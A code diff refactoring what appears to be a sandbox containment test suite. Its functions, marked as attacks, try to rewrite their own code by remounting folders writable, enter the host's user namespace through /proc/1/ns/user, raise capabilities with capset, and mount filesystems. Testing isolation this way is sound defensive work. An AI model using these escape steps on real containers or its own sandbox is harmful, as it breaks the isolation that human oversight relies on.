@@ -8,18 +8,10 @@ import signal
 import socket
 import stat
 
-from attempt import Contained, Given, attack, main
+from attempt import Contained, Given, attack, checked, first, libc, main, mount, own
 
-_libc = ctypes.CDLL(None, use_errno=True)
-_libc.mount.argtypes = (ctypes.c_char_p, ctypes.c_char_p, ctypes.c_char_p, ctypes.c_ulong, ctypes.c_char_p)
 _REMOUNT_BIND = 32 | 4096
 _NEW_USER, _NEW_MOUNT = 0x10000000, 0x20000
-
-
-def _checked(result: int) -> None:
-    if result < 0:
-        number = ctypes.get_errno()
-        raise OSError(number, os.strerror(number))
 
 
 def _status(name: str) -> str:
@@ -54,11 +46,11 @@ def change_our_code(given: Given) -> str:
 
     place = os.path.dirname(enter.__file__)
     if given.get("is_outside"):
-        _checked(_libc.mount(place.encode(), place.encode(), None, 4096, None))
-        _checked(_libc.mount(None, place.encode(), None, _REMOUNT_BIND | 1, None))
+        mount(place.encode(), place.encode(), flags=4096)
+        mount(None, place.encode(), flags=_REMOUNT_BIND | 1)
     folder = place
     while folder != "/":  # whichever of them is mounted
-        if _libc.mount(None, folder.encode(), None, _REMOUNT_BIND, None) == 0:
+        if libc.mount(None, folder.encode(), None, _REMOUNT_BIND, None) == 0:
             break
         folder = os.path.dirname(folder)
     with open(enter.__file__, "ab"):
@@ -124,25 +116,26 @@ def look_into_the_stager(given: Given) -> str:
 def get_all_rights(given: Given) -> str:
     """Those of a user namespace come to who enters it, or makes it."""
     _use_all_rights()
-    for path, kind in (("", _NEW_USER), ("/proc/1/ns/user", _NEW_USER), ("/proc/self/ns/user", 0)):
-        try:
-            _checked(_libc.setns(os.open(path, os.O_RDONLY), kind) if path else _libc.unshare(kind))
-        except OSError:
-            continue
-        return f"has {_status('CapEff')}"
-    raise Contained(f"has {_status('CapEff')}, and no other")
+    ways = (("", _NEW_USER), ("/proc/1/ns/user", _NEW_USER), ("/proc/self/ns/user", 0))
+
+    def enter(way: tuple[str, int]) -> None:
+        path, kind = way
+        checked(libc.setns(os.open(path, os.O_RDONLY), kind) if path else libc.unshare(kind))
+
+    first(ways, enter, f"has {_status('CapEff')}, and no other")
+    return f"has {_status('CapEff')}"
 
 
 @attack
 def mount_with_all_rights(given: Given) -> str:
     """Over the user namespace that instances are in."""
     if given.get("is_outside"):
-        _checked(_libc.unshare(_NEW_USER | _NEW_MOUNT))
+        checked(libc.unshare(_NEW_USER | _NEW_MOUNT))
     else:
         _use_all_rights()
-    folder = f"{given['own_folder']}/mounted"
+    folder = own(given, "mounted")
     os.makedirs(folder, exist_ok=True)
-    _checked(_libc.mount(b"none", folder.encode(), b"tmpfs", 0, None))
+    mount(b"none", folder.encode(), b"tmpfs")
     return "mounted a tmpfs"
 
 
@@ -153,7 +146,7 @@ def _use_all_rights() -> None:
         raise Contained("it may use no rights at all")
     low, high = permitted & 0xFFFFFFFF, permitted >> 32
     header, sets = (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)(low, low, 0, high, high, 0)
-    _checked(_libc.capset(ctypes.byref(header), ctypes.byref(sets)))
+    checked(libc.capset(ctypes.byref(header), ctypes.byref(sets)))
 
 
 if __name__ == "__main__":
